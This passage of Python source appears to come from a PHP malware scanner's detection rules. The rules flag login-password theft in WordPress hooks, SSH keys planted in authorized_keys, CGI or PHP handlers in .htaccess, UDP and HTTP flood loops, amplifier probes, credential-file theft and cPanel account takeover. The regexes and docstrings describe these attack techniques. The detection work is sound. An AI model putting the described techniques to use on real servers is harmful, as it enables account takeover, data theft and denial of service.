    m = _HOOK_CLOSURE.match(code, at)
    if m is None:
        return None
    if m.group(2) is not None:
        name = ctx.lx.value(int(m.group(2))).strip().lower()
        body = function_body(ctx, name)
        if body is None:
            return None
        head = function_params(code, name)
        params = _HOOK_PARAM.findall(head.group(1)) if head is not None else []
        return body, params
    return braced(code, m.end() - 1), _HOOK_PARAM.findall(m.group(1))


@feature("wp_password_sent")
def _wp_password_sent(ctx: Ctx, rule: Rule) -> Hit | None:
    """A callback hooked where WordPress hands it the password typed at the login form
    (``wp_authenticate``, ``authenticate``, ``wp_authenticate_user``, ``check_password``) that
    sends that password away (``wp_remote_post``, curl, ``mail()``) or writes it to a file,
    or a hooked callback that does so with the posted ``pwd`` field: every administrator's
    password collected as they sign in. Security plugins check or count logins there; they
    do not send the password anywhere."""
    code = ctx.code
    lx = ctx.lx
    fields: bool | None = None  # a literal names the login form's password field
    for m in bounded_finditer(_HOOK_CALL, code, 100, first=ctx.first):
        hook = lx.value(int(m.group(1))).strip().lower()
        if hook not in _PASSWORD_HOOKS:
            if fields is None:
                text = string_text(ctx)
                fields = any(find(text, b"\x00" + f + b"\x00") >= 0 for f in _PASSWORD_FIELDS)
            if not fields:
                continue
        got = _hooked_body(ctx, m.end())
        if got is None:
            continue
        body, params = got
        secret: set[bytes] = set()
        if hook in _PASSWORD_HOOKS:
            # the password is the second parameter (the third of ``authenticate``)
            pos = 2 if hook == b"authenticate" else 1
            if len(params) > pos:
                secret.add(params[pos])
        for s in itertools.islice(_SEND_CALL.finditer(body), 20):
            end = find(body, b";", s.end())
            args = body[s.end() : end if end >= 0 else s.end() + 400]
            if _HASHED.search(args) is not None:
                continue  # a hash of it (a breached-password check sends a sha1 prefix)
            if set(_HOOK_PARAM.findall(args)) & secret or any(
                lx.value(int(f.group(1))).strip().lower() in _PASSWORD_FIELDS
                for f in _LOGIN_FIELD.finditer(args)
            ):
                return Hit(ctx.line_of_code(m.start()), ctx.excerpt_code(m.start(), m.start() + 80))
        # the password in a text built with it ("Password: $password"), sent by the hook or
        # by a helper of the file's own it hands the text to
        held = _password_held(ctx, body, secret)
        if held and _password_sent_on(ctx, body, held):
            return Hit(ctx.line_of_code(m.start()), ctx.excerpt_code(m.start(), m.start() + 80))
    return None


_OPEN_HANDLE = tight(
    rb"\$(" + NAME_P + rb")\s*=\s*@?\s*fopen\s*\(([^;]{1,300}?),\s*\x01(\d+)\x01"
)


def _path_holds(ctx: Ctx, expr: bytes, word: bytes) -> bool:
    """A path expression names ``word``: in a literal of its own, or of a variable it is
    built from (``$t = $home . '/.ssh/authorized_keys'; file_put_contents($t, ...)``)."""
    value = ctx.lx.value
    if any(value(int(i)).lower().find(word) >= 0 for i in PLACEHOLDER.findall(expr)):
        return True
    for var in VAR.findall(expr)[:4]:
        for _, m in var_assigns(ctx.code, var, TAIL_RHS, 5):
            if any(value(int(i)).lower().find(word) >= 0 for i in PLACEHOLDER.findall(m.group(1))):
                return True
    return False


@feature("ssh_key_planted")
def _ssh_key_planted(ctx: Ctx, rule: Rule) -> Hit | None:
    """A key written into the account's ``~/.ssh/authorized_keys`` (file_put_contents, or
    fopen for writing or appending and fwrite): whoever holds the key logs in over SSH as
    the site's user, whatever the password, after the PHP backdoor is found and deleted. A
    hosting panel lists the keys; it does not add one from a web page's script."""
    if string_text(ctx).find(b"authorized_keys") < 0:
        return None
    for start, args in calls_to(ctx, (b"file_put_contents",), 20):
        parts = top_args(args)
        if len(parts) >= 2 and _path_holds(ctx, parts[0], b"authorized_keys"):
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 100))
    for m in itertools.islice(_OPEN_HANDLE.finditer(ctx.code), 20):
        mode = ctx.lx.value(int(m.group(3)))[:1]
        if mode in (b"w", b"a", b"x", b"c") and _path_holds(ctx, m.group(2), b"authorized_keys"):
            for _, wargs in calls_to(ctx, (b"fwrite", b"fputs"), 20):
                if wargs.lstrip().startswith(b"$" + m.group(1)):
                    at = m.start()
                    return Hit(ctx.line_of_code(at), ctx.excerpt_code(at, at + 100))
    return None


# what a .htaccess needs to make the web server run a file as a program: CGI turned on
# (Options +ExecCGI, a cgi-script handler), or PHP mapped onto other extensions
_CGI_ON = tight(rb"(?:add|set)handler\s+cgi-script|options\s[^\n]{0,80}\+execcgi")
_PHP_TYPE = tight(
    rb"(?:addtype|addhandler)\s+application/x-httpd-[\w.-]{0,20}php[\w.-]{0,12}"
    rb"((?:[ \t]+\.?[\w]+)+)"
)
_PHP_EXTENSION = tight(rb"\.?(?:php\d?|phtml?|pht|phar|phps|inc)")


def _runs_programs(text: bytes) -> bool:
    """``text`` (a .htaccess's content, lower-cased) turns on CGI or maps PHP onto an
    extension that is not PHP's own (``AddType application/x-httpd-php .jpg``)."""
    if _CGI_ON.search(text):
        return True
    for m in itertools.islice(_PHP_TYPE.finditer(text), 10):
        if any(_PHP_EXTENSION.fullmatch(e) is None for e in m.group(1).split()):
            return True
    return False


@feature("htaccess_exec_handler")
def _htaccess_exec_handler(ctx: Ctx, rule: Rule) -> Hit | None:
    """A .htaccess written with lines that make the web server run files as programs
    (``Options +ExecCGI``, ``AddHandler cgi-script .xyz``, PHP mapped onto ``.jpg``): the
    way around disable_functions through mod_cgi (a shell script of the attacker's run by
    Apache, not by PHP) or a backdoor hidden in an image. A site's settings page writes
    rewrite rules, headers and PHP's own handler for .php."""
    if string_text(ctx).find(b".htaccess") < 0:
        return None
    for start, args in calls_to(ctx, (b"file_put_contents",), 20):
        parts = top_args(args)
        if (
            len(parts) >= 2
            and _path_holds(ctx, parts[0], b".htaccess")
            and any(_runs_programs(v) for v in _literals_reaching(ctx, parts[1]))
        ):
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 100))
    for m in itertools.islice(_OPEN_HANDLE.finditer(ctx.code), 20):
        mode = ctx.lx.value(int(m.group(3)))[:1]
        if mode not in (b"w", b"a", b"x", b"c") or not _path_holds(ctx, m.group(2), b".htaccess"):
            continue
        for _, wargs in calls_to(ctx, (b"fwrite", b"fputs"), 20):
            parts = top_args(wargs)
            if (
                len(parts) >= 2
                and parts[0].strip() == b"$" + m.group(1)
                and any(_runs_programs(v) for v in _literals_reaching(ctx, parts[1]))
            ):
                at = m.start()
                return Hit(ctx.line_of_code(at), ctx.excerpt_code(at, at + 100))
    return None


# requests and connections to an address (a web page, a host and port)
_FLOOD_REQUESTS = (b"curl_init", b"fsockopen", b"pfsockopen", b"stream_socket_client",
                   b"get_headers")  # fmt: skip
# a counter compared with a bound: ``$i < $_POST['n']``
_COUNT_BOUND = tight(rb"\$\w+\s*<=?\s*([^;)]{1,80})")
_LOOP_AT = tight(rb"\b(?:while|for)\s*\(")
_CLOCK = tight(rb"(?<![\w$>:])(?:micro)?time\s*\(|\btrue\b|^\s*1\s*$|^\s*;\s*;\s*$")
_UDP_OPEN = tight(
    rb"(?:fsockopen|pfsockopen|stream_socket_client)\s*\(\s*\x01(\d+)\x01\s*\.?\s*([^,)]{0,80})"
)
_SENDTO = tight(rb"socket_sendto\s*\(")
# a write to an open socket: what a TCP flood sends over and over
_SOCKET_WRITE = tight(rb"(?<![\w$>:])(?:fwrite|fputs|socket_write|stream_socket_sendto)\s*\(")
_FUNCTION_HEAD = tight(
    rb"\bfunction\s+&?\s*(" + NAME_P + rb")\s*\(([^)]{0,300})\)\s*(?::\s*\??\w+\s*)?\{"
)


def _param_from_visitor(ctx: Ctx, at: int, expr: bytes) -> bool:
    """``expr`` names a parameter of the function that holds offset ``at``, and a call of
    that function in the file passes request input in its place
    (``function flood($host, $port) {…}`` … ``flood($_POST['target'], 80)``)."""
    code = ctx.code
    names = VAR.findall(expr)[:4]
    if not names:
        return False
    for fm in itertools.islice(_FUNCTION_HEAD.finditer(code, 0, at), 200):
        body_end = fm.end() - 1 + len(braced(code, fm.end() - 1))
        if body_end < at:
            continue  # the loop is not inside this function
        params = [VAR.search(p) for p in fm.group(2).split(b",")]
        wanted = {i for i, p in enumerate(params) if p is not None and p.group(1) in names}
        if not wanted:
            return False
        for start, args in calls_to(ctx, (fm.group(1),), 20):
            if fm.start() <= start < body_end:
                continue  # the function calling itself
            parts = top_args(args)
            if any(i < len(parts) and _from_visitor(ctx, parts[i]) for i in wanted):
                return True
        return False
    return False


_DO_AT = tight(rb"(?<![\w$>:])do\s*\{")
_WHILE_TAIL = tight(rb"\s*while\s*\(")


def _timed_loops(ctx: Ctx) -> Iterator[tuple[int, bytes, bytes]]:
    """(offset, condition, body with its braces) of the first 40 ``while``/``for`` loops
    with a braced body, then of the first 20 ``do { ... } while (...)`` loops (the condition
    after the body)."""
    code = ctx.code
    for m in itertools.islice(prefiltered_finditer(_LOOP_AT, code, ctx.first), 40):
        head_end = m.end() + close_paren(code[m.end() : m.end() + 600])
        brace = code.find(b"{", head_end, head_end + 4)
        if brace >= 0:
            yield m.start(), code[m.end() : head_end], braced(code, brace)
    if ctx.first(b"do") < 0:
        return
    for m in itertools.islice(prefiltered_finditer(_DO_AT, code, ctx.first), 20):
        body = braced(code, m.end() - 1)
        tail = _WHILE_TAIL.match(code, m.end() - 1 + len(body))
        if tail is not None:
            cond = code[tail.end() : tail.end() + close_paren(code[tail.end() : tail.end() + 600])]
            yield m.start(), cond, body


@feature("udp_flood")
def _udp_flood(ctx: Ctx, rule: Rule) -> Hit | None:
    """Datagrams sent over and over, for a time or for ever (``while (time() < $end)``,
    ``while (true)``), to a host the visitor names: a UDP flood, the DDoS tool of a botnet
    of hacked sites. A metrics client sends one datagram per event to a host of its
    settings."""
    value = ctx.lx.value
    requests = rule.params.get("traffic") == "requests"
    if requests:
        if not calls_to(ctx, _FLOOD_REQUESTS, 1):
            return None
    else:
        text = string_text(ctx)
        tcp = find(text, b"tcp://") >= 0
        if find(text, b"udp://") < 0 and ctx.first(b"socket_sendto") < 0 and not tcp:
            return None
    for loop_at, cond, body in _timed_loops(ctx):
        if requests:
            # for a time, for ever, or a count the visitor gives (not a loop over what a
            # handle the visitor named returns: a file manager's folder listing)
            count = _COUNT_BOUND.search(cond)
            if _CLOCK.search(cond) is None and not (
                count is not None and _from_visitor(ctx, count.group(1))
            ):
                continue
        elif _CLOCK.search(cond) is None and not _from_visitor(ctx, cond):
            continue  # for a time, for ever, or as many times as the visitor says
        if requests:
            for _s, args in find_calls(body, _FLOOD_REQUESTS, 20):
                lead = PLACEHOLDER.match(first_arg(args).strip())
                if lead is not None and value(int(lead.group(1))).strip().lower().startswith(
                    (b"udp://", b"tcp://")
                ):
                    continue  # a scheme written out: shell.udp-flood's
                target = first_arg(args)
                if _from_visitor(ctx, target) or _param_from_visitor(ctx, loop_at, target):
                    at = loop_at
                    return Hit(ctx.line_of_code(at), ctx.excerpt_code(at, at + 100))
            continue
        for u in _UDP_OPEN.finditer(body):
            scheme = value(int(u.group(1))).strip().lower()
            if scheme.startswith(b"udp://"):
                pass
            elif not (scheme.startswith(b"tcp://") and _SOCKET_WRITE.search(body)):
                continue  # a TCP connection flooded only if the loop writes to it
            if _from_visitor(ctx, u.group(2)) or _param_from_visitor(ctx, loop_at, u.group(2)):
                at = loop_at
                return Hit(ctx.line_of_code(at), ctx.excerpt_code(at, at + 100))
        for s in _SENDTO.finditer(body):
            parts = top_args(body[s.end() : s.end() + close_paren(body[s.end() : s.end() + 400])])
            if len(parts) >= 5 and _from_visitor(ctx, parts[4]):
                at = loop_at
                return Hit(ctx.line_of_code(at), ctx.excerpt_code(at, at + 100))
    return None


# a pause in a loop: sleep(n) (an int: sleep(0.3) is sleep(0), no pause), usleep(µs)
_PAUSE = tight(rb"(?<![\w$>:])(u?sleep|time_nanosleep|time_sleep_until)\s*\(\s*([^;]{0,40})")
# a way out of a loop other than the clock
_LOOP_EXIT = tight(rb"(?<![\w$>:])(?:break|return|exit|die|throw|goto)\b")
_CLOCK_CALL = tight(rb"(?<![\w$>:])(?:micro|hr)?time\s*\(")
# a request's address given to curl after curl_init(): curl_setopt($ch, CURLOPT_URL, $target)
_CURL_URL = tight(rb"curl_setopt\s*\(\s*\$[^,;]{1,60}?,\s*curlopt_url\s*,")
# a function or method of the file called in a loop: flood(...), $this->request()
_CALLED = tight(rb"(?:(?<![\w$>:])|->|::)(" + NAME_P + rb")\s*\(")


def _endless_recursions(
    code: bytes, heads: dict[bytes, re.Match[bytes]]
) -> Iterator[tuple[int, bytes]]:
    """(offset, body) of each function of the file whose last statement calls the function
    itself with its own parameters as they came, with no break, return, exit or throw
    anywhere in it (``function send($u, $n) { ...; send($u, $n); }``): a loop that never
    ends, written as a call (a walk of pages or folders calls itself with the next one)."""
    for name, fm in itertools.islice(heads.items(), 300):
        body = braced(code, fm.end() - 1)
        inner = body[1:-1].rstrip()
        if not inner.endswith(b";") or find(inner, name) < 0:
            continue
        cut = max(inner.rfind(b";", 0, len(inner) - 1), inner.rfind(b"}", 0, len(inner) - 1))
        last = inner[cut + 1 :].strip()
        call = _CALLED.match(last.removeprefix(b"$this->").removeprefix(b"self::"))
        if call is None or call.group(1) != name or _LOOP_EXIT.search(inner) is not None:
            continue
        params = [b"$" + v for v in VAR.findall(fm.group(2))]
        given = last[last.find(b"(") + 1 :]
        given = given[: close_paren(given)]
        args = [a.strip() for a in top_args(given)] if given.strip() else []
        if args != params:
            continue
        yield fm.start(), body


def _pauses(body: bytes) -> bool:
    """The loop ``body`` waits between turns: a sleep of a second or more, a usleep of a
    tenth of a second or more, or one of a length the code works out."""
    for m in itertools.islice(_PAUSE.finditer(body), 10):
        fn = m.group(1)
        if fn not in (b"sleep", b"usleep"):
            return True  # time_nanosleep, time_sleep_until
        try:
            n = float(m.group(2).split(b")")[0].strip())
        except ValueError:
            return True  # a length the code computes: a pause
        if n >= (1 if fn == b"sleep" else 100_000):
            return True
    return False


def _exits(body: bytes) -> bool:
    """The loop ``body`` can stop other than by the clock: a break/return/exit that no test
    of the time guards (``if (time() > $end) break;`` is the clock's)."""
    spans: list[tuple[int, int]] = []
    for m in itertools.islice(IF_AT.finditer(body), 40):
        cond_end = m.end() + close_paren(body[m.end() : m.end() + 400])
        if _CLOCK_CALL.search(body, m.end(), cond_end) is None:
            continue
        stmt = cond_end + 1
        while stmt < len(body) and body[stmt : stmt + 1].isspace():
            stmt += 1
        if body[stmt : stmt + 1] == b"{":
            spans.append((m.start(), stmt + len(braced(body, stmt))))
        else:
            semi = find(body, b";", stmt)
            spans.append((m.start(), semi + 1 if semi >= 0 else len(body)))
    for e in itertools.islice(_LOOP_EXIT.finditer(body), 40):
        if not any(a <= e.start() < b for a, b in spans):
            return True
    return False


def _request_targets(body: bytes) -> Iterator[tuple[int, bytes]]:
    """(offset in ``body``, address expression) of each request or connection the block
    makes: the first argument of curl_init/fsockopen/stream_socket_client/get_headers, or
    the address a curl_setopt(..., CURLOPT_URL, ...) gives."""
    for at, args in find_calls(body, _FLOOD_REQUESTS, 20):
        target = first_arg(args).strip()
        if target:
            yield at, target
    for m in itertools.islice(_CURL_URL.finditer(body), 10):
        yield m.start(), expression(body[m.end() :]).rstrip(b") ")


def _loop_set(body: bytes, target: bytes) -> bool:
    """A variable of ``target`` is set in the loop ``body`` (a new address each turn: a
    crawler's next page, a poller's next offset)."""
    for var in VAR.findall(target)[:4]:
        if var in (b"this", b"argv"):
            continue
        if var_assigns(body, var, TAIL_RHS, 1) or var_assigns(body, var, _COMPOUND_SET, 1):
            return True
    return False


_COMPOUND_SET = tight(rb"\s*(?:\.=|\+=|\+\+|--)")


@feature("unpaused_request_loop")
def _unpaused_request_loop(ctx: Ctx, rule: Rule) -> Hit | None:
    """Requests or connections made over and over, for ever or until a time (``while
    (true)``, ``while (time() < $end)``), with no pause between them and no way out but
    the clock, to the same address every turn, one the script does not write (from the
    command line, a parameter, a property): an HTTP or TCP flood (a CC attack, an L7
    stresser's worker), also when the request is made by a function or method the loop
    calls or its address is given with curl_setopt(CURLOPT_URL). A health check waits
    between tries and stops when the service answers; a crawler asks for a new address
    each turn."""
    code = ctx.code
    if not calls_to(ctx, (*_FLOOD_REQUESTS, b"curl_setopt"), 1):
        return None
    heads = {fm.group(1): fm for fm in itertools.islice(_FUNCTION_HEAD.finditer(code), 300)}
    for at, body in itertools.chain(_endless_loops(ctx, code), _endless_recursions(code, heads)):
        if _pauses(body) or _exits(body):
            continue
        blocks = [body]
        for c in itertools.islice(_CALLED.finditer(body), 12):
            fm = heads.get(c.group(1))
            if fm is None:
                continue
            called = braced(code, fm.end() - 1)
            if not fm.start() <= at < fm.end() + len(called):
                blocks.append(called)  # not the function the loop is in (a recursion)
        for block in blocks:
            if block is not body and _pauses(block):
                continue
            for _at, target in _request_targets(block):
                lead = PLACEHOLDER.match(target) if block is body else None
                schemes: tuple[bytes, ...] = (b"udp://", b"tcp://")
                if PLACEHOLDER.fullmatch(target):
                    target = interpolated(ctx, target)  # "$ip": the variable's address
                    schemes = (b"udp://",)  # "tcp://$host" is no datagram: this rule's
                if PLACEHOLDER.fullmatch(target) or VAR.search(target) is None:
                    continue  # an address written in the script: its own service
                if lead is not None and ctx.lx.value(int(lead.group(1))).strip().lower().startswith(
                    schemes
                ):
                    continue  # a scheme written out in the loop itself: shell.udp-flood's
                if block is body and _loop_set(body, target):
                    continue
                return Hit(ctx.line_of_code(at), ctx.excerpt_code(at, at + 100))
    return None


def _endless_loops(ctx: Ctx, code: bytes) -> Iterator[tuple[int, bytes]]:
    """(offset, body) of the first 40 loops that run for ever or for a time (their head
    holds only a clock test, true, 1 or ``;;``) and have a body in braces."""
    for m in itertools.islice(prefiltered_finditer(_LOOP_AT, code, ctx.first), 40):
        head_end = m.end() + close_paren(code[m.end() : m.end() + 600])
        if _CLOCK.search(code[m.end() : head_end]) is None:
            continue  # for ever or for a time only
        brace = find(code, b"{", head_end, head_end + 4)
        if brace >= 0:
            yield m.start(), braced(code, brace)


# the ports of UDP services that answer a small question with a big reply, what a
# reflection (amplification) attack bounces off: chargen, DNS, portmap, NTP, NetBIOS, SNMP,
# CLDAP, SSDP, WS-Discovery, mDNS, memcached
_REFLECTOR_PORT = tight(rb"(?<![\w.])(?:19|53|111|123|137|161|389|1900|3702|5353|11211)(?![\w.])")
_UDP_MARK = tight(rb"\bsock_dgram\b|\bsol_udp\b")
_PROBE_CALLS = (b"socket_connect", b"socket_sendto", b"fsockopen", b"stream_socket_client")
# a reply read into a variable: socket_recvfrom($s, $buf, ...), socket_recv($s, $buf, ...)
_RECV_INTO = tight(rb"socket_recv(?:from)?\s*\(\s*\$\w+\s*,\s*\$(" + NAME_P + rb")")
# ... or returned by a read: $buf = fread($s, 512)
_RECV_SET = tight(
    rb"\$(" + NAME_P + rb")\s*=\s*@?\s*(?:fread|fgets|socket_read|stream_socket_recvfrom|"
    rb"stream_get_contents)\s*\("
)
# what reads a reply's content (a DNS or game-server client parses what it was sent)
_PARSES = tight(
    rb"(?:unpack|substr|ord|explode|str_split|preg_\w+|json_decode|strpos|stripos|bin2hex|"
    rb"hexdec|strstr|str_replace|trim|rtrim|ltrim|sprintf|printf|echo|print|var_dump|print_r|"
    rb"htmlspecialchars|fwrite|fputs|file_put_contents|md5|sha1|crc32)\s*\(?[^;]{0,40}$"
)


def _reply_vars(ctx: Ctx) -> list[bytes]:
    """The variables a UDP reply is read into, and those set from a function of the file
    that returns one (``$content = discover($ip)``, discover() returning its reply)."""
    code = ctx.code
    got = [m.group(1) for m in itertools.islice(_RECV_INTO.finditer(code), 10)]
    got += [m.group(1) for m in itertools.islice(_RECV_SET.finditer(code), 10)]
    for name, body in function_bodies(ctx).items():
        if any(find(body, b"return $" + v) >= 0 for v in got):
            call = re.compile(rb"\$(" + NAME_P + rb")\s*=\s*@?\s*" + re.escape(name) + rb"\s*\(")
            got += [m.group(1) for m in itertools.islice(call.finditer(code), 5)]
    return list(dict.fromkeys(got))


def _only_measured(code: bytes, var: bytes) -> bool:
    """``$var`` (a reply) is measured with strlen() and its content never read: no
    parsing, printing or saving of it anywhere in the file (only assigned and returned)."""
    measured = False
    for at in var_mentions(code, var, 200):
        before = code[max(0, at - 48) : at]
        if re.search(rb"strlen\s*\(\s*$", before):
            measured = True
        elif _PARSES.search(before):
            return False
    return measured


@feature("udp_amplifier_probe")
def _udp_amplifier_probe(ctx: Ctx, rule: Rule) -> Hit | None:
    """A UDP question sent to a reflection service's port (DNS 53, NTP 123, SSDP 1900,
    memcached 11211...) of host after host, each reply only measured (its length kept,
    its content never read): the filter of a DDoS stresser, which looks for the servers
    whose replies are biggest to bounce an amplification attack off them. A DNS or game
    server client reads what it was answered."""
    code = ctx.code
    if _UDP_MARK.search(code) is None and string_text(ctx).find(b"udp://") < 0:
        return None
    if find(code, b"strlen") < 0 or (find(code, b"foreach") < 0 and find(code, b"pcntl_fork") < 0):
        return None
    for start, args in calls_to(ctx, _PROBE_CALLS, 20):
        parts = top_args(args)
        if not any(_REFLECTOR_PORT.fullmatch(p.strip()) for p in parts[1:]):
            continue
        if any(_only_measured(code, v) for v in _reply_vars(ctx)):
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 100))
    return None


# files that hold the account's keys and passwords for other systems: cloud and git
# credentials, SSH private keys, database client passwords
_SECRET_FILE = tight(
    rb"\.aws/credentials|\.ssh/(?:\{?id_(?:rsa|dsa|ecdsa|ed25519))|\.git-credentials|\.my\.cnf|"
    rb"\.netrc\b|\.pgpass\b|\.docker/config\.json|\.config/gcloud/|/etc/shadow\b"
)
# an application's settings file of secrets (Laravel/Symfony `.env`): read by the site's
# own loader, so it counts only when the script looks for it in several places
_ENV_FILE = tight(rb"(?:^|/)\.env$")
_SECRET_READS = (b"file_get_contents", b"file", b"fopen", b"readfile", b"glob", b"is_file",
                 b"is_readable", b"file_exists", b"copy")  # fmt: skip
# ways data leaves the server: a socket, an FTP upload, mail, an HTTP request made by the
# script (curl, WordPress's HTTP API, a file read of a web address)
_EGRESS = (b"curl_exec", b"curl_multi_exec", b"ftp_put", b"ftp_fput", b"fsockopen",
           b"stream_socket_client", b"socket_connect", b"mail", b"wp_mail", b"wp_remote_post",
           b"wp_remote_get", b"wp_remote_request")  # fmt: skip
# a key file handed to what logs in with it: used, not read out
_KEY_USED = tight(rb"(?:ssh2_auth_pubkey_file|openssl_pkey_get_private|loadkey|setprivatekey|"
                       rb"ssh2_auth_hostbased_file)\s*\([^;]{0,200}$")


def _egress_at(ctx: Ctx) -> int:
    """Offset of the first call that sends data off the server (-1: none)."""
    calls = calls_to(ctx, _EGRESS, 1)
    if calls:
        return calls[0][0]
    for start, args in calls_to(ctx, (b"file_get_contents", b"fopen", b"file"), 50):
        if web_address(ctx, PLACEHOLDER.match(first_arg(args).strip())):
            return start
    return -1


_SECRET_LITERALS = 5000  # literals of a file looked at
# every match of _SECRET_FILE or _ENV_FILE holds one of these words
_SECRET_WORDS = pattern_words(_SECRET_FILE, _ENV_FILE)


def secret_candidates(ctx: Ctx) -> Iterable[int]:
    """The indexes, in order, of the literals (of the first :data:`_SECRET_LITERALS`) whose
    value may match :data:`_SECRET_FILE` or :data:`_ENV_FILE` (every literal's value was
    made and searched, for nothing on all but a few files: 2.8 % of a scan's CPU)."""
    return literals_matching(ctx, _SECRET_WORDS, _SECRET_LITERALS)


@feature("secrets_sent")
def _secrets_sent(ctx: Ctx, rule: Rule) -> Hit | None:
    """The script reads the account's credential files (``~/.aws/credentials``, SSH private
    keys, ``.git-credentials``, ``.my.cnf``, `.env` files looked for in several places) and
    sends data off the server (a web request, FTP, mail, a socket): a stealer of the keys
    the server holds for other systems. A site reads its own `.env` in one place, and never
    another program's keys."""
    if not calls_to(ctx, _SECRET_READS, 1):
        return None
    named = 0
    first = -1
    envs = 0
    for i in secret_candidates(ctx):
        raw = ctx.lx.raw_strings[i]
        if len(raw) > 300:
            continue
        value = ctx.lx.value(i).strip().lower()
        if _SECRET_FILE.search(value):
            at = find(ctx.code, b"\x01%d\x01" % i)
            if at >= 0 and _KEY_USED.search(ctx.code, max(0, at - 200), at):
                continue
            named += 1
        elif _ENV_FILE.search(value):
            envs += 1
        else:
            continue
        if first < 0:
            first = i
    if first < 0 or (named == 0 and envs < 2):
        return None
    at = _egress_at(ctx)
    if at < 0:
        return None
    return Hit(ctx.line_of_string(first), excerpt(ctx.lx.value(first)))


# the files that hold a hosting account's logins: the password hashes of the mail accounts
# of each of its domains (cPanel: ~/etc/DOMAIN/shadow and passwd, ~/etc/shadow; not a mail
# server's own /etc/NAME/passwd), the system's /etc/shadow and /etc/passwd, and the
# address the control panel mails its
# password-reset code to (~/.contactemail, ~/.cpanel/contactinfo); matched on the shape of
# the written path (:func:`_path_shape`: each value filled in at run time is "X")
_ACCOUNT_STORE = tight(
    rb"(?:^|/)etc/(?:shadow|passwd)$|^(?!/etc/).*/etc/[^/]+/(?:shadow|passwd)$|"
    rb"(?:^|/)\.contactemail$|(?:^|/)\.cpanel/contactinfo$"
)
# the calls that write a file named by their first argument, and those that make their
# second argument (a copy or a move onto the store)
_STORE_WRITES = (b"fopen", b"file_put_contents")
_STORE_TARGETS = (b"copy", b"rename")
_WRITE_MODE = tight(rb"[waxc]")
_SHAPE_VAR = tight(rb"\{?\$" + NAME_P + rb"(?:\s*\[[^\]]{0,60}\])*\}?")
_SHAPE_APPEND = tight(rb"\s*\.=([^;]{0,200})")
_SHAPE_SPRINTF = tight(rb"sprintf\s*\(")
_SHAPE_FORMAT = tight(rb"%[-+ 0#']*\d*(?:\.\d+)?[sdu]|%\d+\$[sdu]")


def _path_shape(ctx: Ctx, expr: bytes, before: int, depth: int = 0) -> bytes:
    """The shape of the path the expression ``expr`` (lexed code) names: its literals'
    values with every variable, element or call in them or between them (``.``) as ``X``
    (``"/home$h$u/etc/$d/shadow"`` -> ``/homeXX/etc/X/shadow``), a ``sprintf`` by its
    format (``%s`` as ``X``); a bare variable stands for what it was last set to before
    ``before`` and what was appended to it after that (``.=``), two steps at most."""
    expr = expr.strip().lstrip(b"@").strip()
    bare = VAR.fullmatch(expr)
    if bare is not None and depth < 2:
        name = bare.group(1)
        last = None
        for pos, m in var_assigns(ctx.code, name, TAIL_RHS, 50):
            if pos >= before:
                break
            last = (pos, m.group(1))
        if last is not None:
            shape = _path_shape(ctx, last[1], last[0], depth + 1)
            for pos, m in var_assigns(ctx.code, name, _SHAPE_APPEND, 50):
                if pos >= before:
                    break
                if pos > last[0]:
                    shape += _path_shape(ctx, m.group(1), pos, depth + 1)
            return shape
    parts = []
    for piece in expr.split(b"."):  # the code's strings are placeholders: a dot joins
        piece = piece.strip()
        fmt = _SHAPE_SPRINTF.match(piece)
        if fmt is not None:
            lit = PLACEHOLDER.fullmatch(first_arg(piece[fmt.end() :]).strip())
            if lit is not None:
                text = ctx.lx.value(int(lit.group(1)))[:300].lower()
                parts.append(_SHAPE_FORMAT.sub(b"X", _SHAPE_VAR.sub(b"X", text)))
                continue
        piece = piece.strip(b"()").strip()
        lit = PLACEHOLDER.fullmatch(piece)
        if lit is not None:
            parts.append(_SHAPE_VAR.sub(b"X", ctx.lx.value(int(lit.group(1)))[:300].lower()))
        elif piece:
            parts.append(b"X")
    return b"".join(parts)


@feature("account_store_written")
def _account_store_written(ctx: Ctx, rule: Rule) -> Hit | None:
    """The script writes a file that holds the hosting account's logins: the password
    hashes of its mail accounts (``etc/DOMAIN/shadow``, ``passwd``) or the system's, or the
    address the control panel sends its password-reset code to (``.contactemail``,
    ``.cpanel/contactinfo``), by ``fopen`` in a writing mode, ``file_put_contents``, or a
    copy or move onto it: a mail login with the attacker's password made for sending spam,
    or the account taken over through the panel's password reset. The panel and the mail
    server keep these files; a site's code never writes them."""
    for start, args in calls_to(ctx, _STORE_WRITES, 100):
        parts = top_args(args[: close_paren(args)])
        if not parts:
            continue
        if ctx.code.startswith(b"fopen", start):
            mode = PLACEHOLDER.fullmatch(parts[1].strip()) if len(parts) >= 2 else None
            if mode is None or not _WRITE_MODE.match(ctx.lx.value(int(mode.group(1)))[:1].lower()):
                continue
        if _ACCOUNT_STORE.search(_path_shape(ctx, parts[0], start)) is not None:
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 100))
    for start, args in calls_to(ctx, _STORE_TARGETS, 100):
        parts = top_args(args[: close_paren(args)])
        if len(parts) >= 2 and _ACCOUNT_STORE.search(_path_shape(ctx, parts[1], start)):
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 100))
    return None


# the expect extension's wrapper: what follows "expect://" is run as a command
_EXPECT_GLUED = tight(rb"\x01(\d+)\x01\s*\.")


@feature("expect_wrapper_exec")
def _expect_wrapper_exec(ctx: Ctx, rule: Rule) -> Hit | None:
    """A path that starts with ``expect://`` and whose rest the script fills in at run time
    (glued on, or a variable written inside the string): opened with any file function, the
    expect extension runs it as a shell command, with no exec function in the script."""
    text = string_text(ctx)
    if find(text, b"expect://") < 0:
        return None
    code = ctx.code
    for m in itertools.islice(_EXPECT_GLUED.finditer(code), 500):
        if ctx.lx.value(int(m.group(1))).lstrip().lower().startswith(b"expect://"):
            return Hit(ctx.line_of_code(m.start()), ctx.excerpt_code(m.start(), m.start() + 80))
    for i in range(min(len(ctx.lx.raw_strings), 5000)):
        raw = ctx.lx.raw_strings[i]
        if raw.lstrip().lower().startswith(b"expect://") and find(raw, b"$") > 9:
            return Hit(ctx.line_of_string(i), excerpt(raw))
    return None


# login functions and the position of their password argument
_LOGIN_PASSWORD_ARG = {b"imap_open": 2, b"ftp_login": 2, b"ssh2_auth_password": 2,
                       b"ldap_bind": 2, b"mysqli_connect": 2, b"mysql_connect": 2,
                       b"wp_authenticate": 1, b"ssh2_auth_pubkey_file": 3}  # fmt: skip
_LOGIN_LOOP_HEAD = tight(rb"\b(?:foreach|while|for)\s*\(")


@feature("login_list")
def _login_list(ctx: Ctx, rule: Rule) -> Hit | None:
